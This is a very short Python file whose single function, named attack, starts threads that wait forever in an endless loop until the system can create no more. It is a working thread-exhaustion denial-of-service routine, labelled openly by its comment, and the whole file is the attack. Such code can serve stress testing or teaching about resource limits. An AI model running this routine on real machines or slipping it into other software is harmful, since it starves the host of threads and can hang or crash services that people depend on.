# Starts threads that never end, until no more can be started.
import threading


def attack():
    never = threading.Event()
    while True:
        threading.Thread(target=never.wait).start()
